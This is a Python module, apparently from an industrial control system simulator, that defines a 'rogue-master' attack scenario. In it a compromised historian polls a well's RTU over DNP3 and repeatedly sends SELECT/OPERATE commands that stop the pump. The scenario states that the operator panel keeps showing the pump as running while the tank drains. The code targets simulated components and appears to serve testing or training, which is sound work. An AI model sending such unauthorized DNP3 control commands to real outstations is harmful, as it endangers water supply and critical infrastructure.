"""A second master polls and commands the well: two masters that want different things."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import dnp3

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_ROUNDS: Final = 60


def _script(scene: Scene) -> Script:
    link, sequence = Link("historian", "rtu-well", 20000), 0
    for k in range(_ROUNDS):
        sequence += 1
        yield Ask(link, dnp3.request(sequence, dnp3.READ, dnp3.CLASS_0, master=7))
        if k % 10 == 5:
            sequence += 1
            yield Ask(link, dnp3.request(sequence, dnp3.SELECT, dnp3.control(0, on=False), master=7))
            yield Ask(link, dnp3.request(sequence + 1, dnp3.OPERATE, dnp3.control(0, on=False), master=7))
            sequence += 1
        yield Wait(scene.draws.uniform(1.8, 2.2))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="rogue-master",
    title="The historian, taken over, acts as a second master of the well and stops its pump",
    technique="T0848",
    also=("T0855",),
    attacker="historian",
    victims=("rtu-well",),
    harm="The well's pump stands while the panel believes that it runs: the raw water tank runs empty.",
    script=_script,
    moves=("well.pump", "well.flow", "raw.level"),
)
